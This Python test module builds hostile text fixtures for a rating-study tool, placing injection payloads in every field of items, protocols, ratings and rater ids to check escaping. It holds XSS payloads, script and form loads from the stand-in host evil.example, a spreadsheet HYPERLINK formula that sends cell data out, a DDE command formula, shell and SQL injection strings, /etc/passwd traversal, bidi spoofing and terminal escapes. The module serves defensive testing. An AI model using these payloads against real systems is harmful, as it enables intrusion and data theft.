"""Texts that break out of a page, a sheet, a terminal or a file, and studies in which they stand everywhere.

A script that runs sets `window.hacked` and opens a dialog; what is fetched is asked for at `evil.example`.
"""

import json
from collections.abc import Iterator, Mapping, Sequence
from functools import cache, partial
from pathlib import Path

from evenhand.protocol.load import read_protocol
from evenhand.protocol.model import Protocol
from evenhand.records import Item, Kind, RaterRef, Rating, Span, Status, Triple
from evenhand.study import Study

RUN = "window.hacked=1;alert(1)"
ELSEWHERE = "https://evil.example"
LONG = 40_000

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{ELSEWHERE}/x.js"></script>',
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a textarea": f"</textarea><img src=x onerror={RUN}>",
    "end of a title": f"</title><script>{RUN}</script>",
    "end of a style": f"</style><script>{RUN}</script>",
    "end of a template": f"</template></noscript></select></option></button><script>{RUN}</script>",
    "end of a page": f"</p></main></body></html><script>{RUN}</script>",
    "svg": f"<svg onload={RUN}>",
    "svg with a script": f"<svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x></svg>",
    "image": f"<img src=x onerror={RUN}>",
    "image from elsewhere": f'<img src="{ELSEWHERE}/pixel.png">',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>" src="javascript:{RUN}"></iframe>',
    "form": f'<form action="{ELSEWHERE}"><input name=token autofocus onfocus={RUN}></form>',
    "base": f'<base href="{ELSEWHERE}/"><link rel=stylesheet href="{ELSEWHERE}/x.css">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    "style": f"<style>@import '{ELSEWHERE}/x.css'; * {{display: none}}</style>",
    "mathematics": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "handler in double quotes": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "handler in single quotes": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "handler without quotes": f"x onmouseover={RUN} autofocus onfocus={RUN} ",
    "script's string": f"';{RUN};//\\';{RUN};//`;{RUN};//",
    "json in a script": f'"}}]}}</script><script>{RUN}//',
    "javascript address": f"javascript:{RUN}",
    "javascript address, hidden": f"\x01java\tscript&colon;{RUN}",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "comment": f"<!-- --><script>{RUN}</script> <!--",
    "open comment": "<!-- the rest of the page is gone",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "instruction": "<?php echo 1 ?><!DOCTYPE html><?xml version='1.0'?>",
    "entities": "&lt;b&gt; &amp;#60; &#60;b&#62; &nbsp;&zwnj;&notanentity; &amp;amp;",
    "deep nesting": "<div>" * 2_000,
}

MARKDOWN = {
    "link": f"[click](javascript:{RUN}) <javascript:{RUN}>",
    "link elsewhere": f"[click]({ELSEWHERE}) {ELSEWHERE}/auto www.evil.example",
    "picture": f"![x]({ELSEWHERE}/pixel.png) ![x](data:image/svg+xml,<svg/onload={RUN}>)",
    "reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "heading and rule": "# Heading\n\nUnder\n=====\n\n---\n\n> quoted\n\n1. one",
    "code": "```\n</pre></code>\n````\n~~~",
    "raw html": f"<details open ontoggle={RUN}><summary>x</summary>\n\n*a* __b__ | c | d |\n</details>",
    "deep quotation": ">" * 500 + " x",
    "deep emphasis": "*" * 3_000 + "a",
    "deep brackets": "[" * 3_000 + "a",
}

TEMPLATES = {
    "jinja": "{{7*7}}{% raw %}{{ config }}{% endraw %}{% include '/etc/passwd' %}{# #}",
    "javascript template": "${7*7}`${alert(1)}`",
    "erb": "<%= 7*7 %><%- 7*7 %>",
    "python format": "%s %(x)s {0} {x.__class__} %n %",
    "shell": "$(touch hacked) `touch hacked` ; touch hacked | touch hacked && touch hacked",
    "sql": "'; DROP TABLE ratings; -- \" OR 1=1 /*",
    "path": "../../../../etc/passwd%00.html",
    "prototype": "__proto__",
    "constructor": "constructor",
    "to string": "toString",
    "null": "null",
    "undefined": "undefined",
    "true": "true",
    "not a number": "NaN",
    "digits": "007",
    "exponent": "1e5",
}

FORMULAS = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": f'=HYPERLINK("{ELSEWHERE}?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "apostrophe": "'=1+1",
    "full width": "＝1+1",
    "quotes and commas": 'a","b",=1+1,"c\n=2+2',
    "excel's own notation": "_x000D_ _x0041_ _x005F_",
}

UNSEEN = {
    "override": "safe\u202egpj.exe\u202c",
    "left-to-right override": "\u202dabc",
    "embedding": "\u202babc\u202aabc",
    "open isolate": "\u2066\u2067\u2068abc",
    "closed isolates": "abc\u2069\u2069\u202c\u202cdef",
    "marks": "\u200eabc\u200fdef\u061cghi",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\u00adf\u180eg",
    "tags": "flag\U000e0041\U000e0042\U000e007f",
    "selectors": "a\ufe0fb\U000e0100",
    "combining storm": "Z" + "\u0301\u0316\u0334\u0489\u20dd" * 200 + "algo",
    "arabic": "مرحبا <b>بالعالم</b> 123",
    "byte order mark": "\ufeffbegins and\ufeff goes on",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 👍🏽",
    "beyond the first plane": "𝒳𐍈 𠜎",
    "not a character": "a\ufffeb\uffffc\ufdd0d\U0001fffe",
    "private": "\ue000\U000f0000",
    "replacement": "\ufffd",
}

LINES = {
    "line ends": "a\nb\r\nc\rd\x0be\x0cf\x85g\u2028h\u2029i",
    "only a line end between": "one\n\n\n\n\n\n\n\n\n\ntwo",
    "spaces": "  a  \u00a0b\u3000c  ",
    "long line": "x" * LONG,
    "long line with markup": "<b>" * (LONG // 3),
    "long address": f"{ELSEWHERE}/" + "a/" * 5_000,
}

CONTROLS = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H\x1b[8mhidden",
    "title of the terminal": "\x1b]0;owned\x07",
    "link of the terminal": f"\x1b]8;;{ELSEWHERE}\x1b\\click\x1b]8;;\x1b\\",
    "one-character control sequences": "\x9b31m \x9d0;owned\x9c \x90",
    "back over": "no\b\b\b\byes\x7f\x7f",
    "bell and more": "".join(chr(code) for code in range(1, 32) if chr(code) not in "\t\n\r"),
}

TEXTS: Mapping[str, str] = {
    **{f"markup: {name}": text for name, text in MARKUP.items()},
    **{f"markdown: {name}": text for name, text in MARKDOWN.items()},
    **{f"template: {name}": text for name, text in TEMPLATES.items()},
    **{f"formula: {name}": text for name, text in FORMULAS.items()},
    **{f"unseen: {name}": text for name, text in UNSEEN.items()},
    **{f"lines: {name}": text for name, text in LINES.items()},
    **{f"controls: {name}": text for name, text in CONTROLS.items()},
}
"""All that a file can bring in as text."""

UNSTORABLE = {"nul": "a\0b", "half a pair": "a\ud800b", "other half": "\udc00"}
"""What a caller in Python or a request in JSON can still hold, and no UTF-8 file can."""

NAMES: Sequence[str] = [
    text for text in TEXTS.values() if text.strip() == text and text.isprintable() and len(text) <= 200
]
"""What may be the id of an item or of a rater."""


def hostile_items(texts: Sequence[str]) -> Iterator[Item]:
    """An item for each text, with it in every field of every kind."""
    for number, text in enumerate(texts, start=1):
        fields = {
            "question": text,
            "context": (text, f"Passage {number}", text),
            "facts": (Triple(text, text, text), Triple("a", text, "b")),
            "answer": f"One. {text} Two.",
            "domain": text,
            "weight": float(number),
        }
        yield Item(f"{number}", fields)


def hostile_ids() -> Iterator[Item]:
    """An item under each id."""
    for name in NAMES:
        yield Item(name, {"question": "Q", "context": ("C",), "answer": "A", "domain": "d"})


@cache
def hostile_protocol(text: str, *, unit: str = "item") -> Protocol:
    """A protocol with this text in every place that takes one."""
    ordinal = {"type": "ordinal", "levels": {n: {"label": f"{text} {n}", "anchor": text} for n in (1, 2, 3)}}
    # A key of a YAML mapping has at most 1,024 characters, each of which may take six as JSON.
    label = text[:150]
    nominal = {"type": "nominal", "labels": {f"{label} {mark}": {"definition": text} for mark in "ab"}}
    fields = {"question": text, "context": [text, text], "facts": [[text, text, text]], "answer": f"{text} Two."}
    content: dict[str, object] = {
        "name": "hostile",
        "version": text,
        "title": text,
        "instructions": text,
        "unit": unit,
        "item": {
            "fields": {
                "question": {"role": "context", "title": text, "description": text},
                "context": {"role": "evidence", "kind": "passages", "title": text, "description": text},
                "facts": {"role": "evidence", "kind": "triples", "required": False, "title": text},
                "answer": {"role": "rated", "description": text},
                "domain": {"role": "context", "kind": "label", "required": False, "title": text},
                "weight": {"role": "context", "kind": "number", "required": False, "title": text},
            }
        },
        "strata": ["domain"],
        "criteria": [
            {"id": "level", "name": f"{text} level", "question": text, "scale": ordinal, "overall": True},
            {"id": "label", "name": f"{text} label", "question": text, "scale": nominal, "required": False,
             "when": {"criterion": "level", "at_least": 2}},
            {"id": "words", "name": f"{text} words", "question": text, "scale": {"type": "text"}, "required": False},
            {"id": "share", "name": f"{text} share", "question": text, "scale": {"type": "percent"}, "required": False},
        ],
        "ask": {"rationale": "optional", "confidence": "optional", "notes": "optional", "evidence": "optional"},
        "measures": [{"name": "mean_level", "kind": "mean", "criteria": ["level"]}],
        "examples": [
            {"title": text, "fields": fields, "unit": None if unit == "item" else "Two.", "notes": text,
             "ratings": {"level": 3, "label": f"{label} a", "words": text.strip()},
             "rationales": {"level": text, "label": text}, "explanation": text}
        ],
    }  # fmt: skip
    return read_protocol(json.dumps(content), "hostile.yaml")


RATERS = ("ann", "<img src=x onerror=window.hacked=1;alert(1)>", "=1+1")


def add_hostile_ratings(study: Study, texts: Sequence[str], raters: Sequence[str] = RATERS) -> None:
    """Ratings of `hostile_items` by each rater that hold the texts wherever ratings hold any; they disagree."""
    protocol = study.protocol
    labels = list(protocol.criterion("label").scale.values)
    ratings: list[Rating] = []
    for number, text in enumerate(texts, start=1):
        for place, rater in enumerate(raters):
            answer = partial(Rating, unit=f"{number}", rater=rater, digest=protocol.digest)
            cited = (Span("question", 0, len(text)),)
            level, label = 1 + (number + place) % 3, labels[(number + place) % 2]
            ratings += [
                answer(criterion="level", value=level, rationale=text, notes=text, confidence=50.0, evidence=cited),
                answer(criterion="label", value=label, rationale=text)
                if level >= 2
                else answer(criterion="label", status=Status.NOT_ASKED),
                answer(criterion="words", value=text.strip()),
                answer(criterion="share", status=Status.SKIPPED, reason=text),
            ]
    study.store.ratings.add(ratings, raters=[RaterRef(rater, Kind.PERSON) for rater in raters])


def hostile_study(folder: Path, text: str) -> Study:
    """A small study with one text everywhere: protocol, items, ratings."""
    made = Study.create(folder / "study.db", hostile_protocol(text), hostile_items([text, text]))
    add_hostile_ratings(made, [text, text])
    return made
